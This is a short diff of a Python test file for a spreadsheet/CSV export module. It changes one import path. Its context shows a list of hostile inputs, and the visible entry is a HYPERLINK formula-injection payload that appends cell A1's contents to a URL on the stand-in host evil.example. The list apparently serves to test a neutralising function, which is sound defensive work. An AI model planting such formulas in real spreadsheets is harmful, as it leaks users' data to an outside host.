@@ -10,7 +10,7 @@ from typing import Any
 import pytest
 from openpyxl import load_workbook
 
-from app.reports.export import csv_bytes, neutralise, restore
+from app.spreadsheet import csv_bytes, neutralise, restore
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"点我")',
